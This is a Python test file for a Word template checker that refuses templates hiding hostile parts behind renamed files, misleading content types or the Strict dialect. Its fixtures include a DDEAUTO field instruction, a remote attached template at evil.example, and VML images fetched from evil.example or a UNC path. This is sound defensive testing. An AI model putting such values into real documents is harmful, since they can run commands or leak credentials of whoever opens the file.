"""What somebody hides in a template behind a name, a type or a dialect, that the look at its text would not find."""

import io

import pytest

from tests.handouts.facts import paragraph, standard, template, tied
from tradedoor.handouts.errors import BadTemplate
from tradedoor.handouts.ooxml import WORDS, W
from tradedoor.handouts.packages import write_package
from tradedoor.handouts.template_check import checked_template

GOOD = paragraph("{{ link }}")
HEADER = f"{WORDS}header+xml"
STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
FIELD = '<w:p><w:fldSimple w:instr="DDEAUTO cmd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'


def header(body: str = FIELD, *, dialect: str = W) -> bytes:
    return f'<w:hdr xmlns:w="{dialect}">{body}</w:hdr>'.encode()


def typed(name: str, kind: str = HEADER) -> str:
    return f'<Override PartName="/{name}" ContentType="{kind}"/>'


def code_of(content: bytes) -> str:
    with pytest.raises(BadTemplate) as refused:
        checked_template(io.BytesIO(content))
    return refused.value.code


def test_connections_are_looked_through_however_their_name_is_spelled() -> None:
    [(name, content)] = tied("attachedTemplate", "http://evil.example/t.dotm").items()
    hidden = name.replace("document.xml.rels", "settings.xml.RELS")

    assert code_of(template(GOOD, more={hidden: content})) == "external"


def test_text_is_looked_through_however_its_name_is_spelled() -> None:
    assert (
        code_of(template(GOOD, more={"word/header1.XML": header()}, types=typed("word/header1.XML")))
        == "field"
    )


@pytest.mark.parametrize(
    "said", ["word/media/image1.png", "word/media/IMAGE1.png", "word/media/image1.%70ng"]
)
def test_text_that_calls_itself_a_picture_is_refused(said: str) -> None:
    content = template(GOOD, more={"word/media/image1.png": header()}, types=typed(said))

    assert code_of(content) == "foreign_part"


def test_an_ending_of_pictures_that_means_text_is_refused() -> None:
    parts = standard()
    kinds = parts["[Content_Types].xml"].decode()
    ours = f'<Default Extension="GIF" ContentType="{HEADER}"/></Types>'
    parts["[Content_Types].xml"] = kinds.replace("</Types>", ours).encode()

    assert code_of(write_package(parts | {"word/media/a.gif": header()})) == "foreign_part"


def test_a_dialect_that_is_not_looked_through_is_refused() -> None:
    content = template(
        GOOD, more={"word/header1.xml": header(dialect=STRICT)}, types=typed("word/header1.xml")
    )

    assert code_of(content) == "strict"


@pytest.mark.parametrize(
    "given", ['src="http://evil.example/x.png"', 'o:href="//evil.example/x.png"', 'src="\\\\evil\\x"']
)
def test_a_picture_of_former_days_that_is_fetched_is_refused(given: str) -> None:
    body = f"<w:p><w:r><w:pict><v:shape {VML}><v:imagedata {given}/></v:shape></w:pict></w:r></w:p>"

    assert code_of(template(GOOD, body)) == "external"


def test_a_picture_of_former_days_in_the_file_is_fine() -> None:
    body = f'<w:p><w:r><w:pict><v:shape {VML} href="https://seller.example/"><v:imagedata o:title="x"/></v:shape></w:pict></w:r></w:p>'

    assert checked_template(io.BytesIO(template(GOOD, body)))
